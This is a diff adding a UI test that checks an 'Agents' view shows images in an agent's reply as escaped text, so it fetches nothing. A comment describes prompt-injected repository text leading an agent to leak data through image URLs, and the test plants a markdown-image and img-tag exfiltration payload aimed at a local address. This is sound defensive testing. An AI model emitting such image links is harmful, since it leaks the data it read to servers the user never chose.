@@ -122,3 +122,21 @@ test("Show Changed Files names a link that leads out of the worktree, and neithe
   }
   screen.unmount();
 });
+
+// An image in an agent's reply is fetched as the detail is shown: a reply a repository's text
+// talked the agent into could send what it read to any server, or reach one on this machine.
+test("Agents shows an image in an agent's reply as text, fetching nothing", async () => {
+  const pixel = "![pixel](http://127.0.0.1:9/p?d=secret)";
+  await agentOnDisk("pictures", [{ type: "text", text: `Done. ${pixel} <img src="http://127.0.0.1:9/i">` }]);
+  const screen = render(<Agents launchContext={{ project: sandbox.repo, agent: "pictures" }} />);
+  const markdown = await screen.waitFor(() => {
+    const item = screen.byTitle("List.Item", "pictures");
+    const text = String(screen.find("List.Item.Detail", undefined, item.slots.detail).props.markdown);
+    expect(text).toContain("Done.");
+    return text;
+  });
+  expect(markdown).toContain("!\\[pixel](http://127.0.0.1:9/p?d=secret)");
+  expect(markdown).toContain("&lt;img");
+  expect(markdown).not.toMatch(/(^|[^\\])!\[/);
+  screen.unmount();
+});
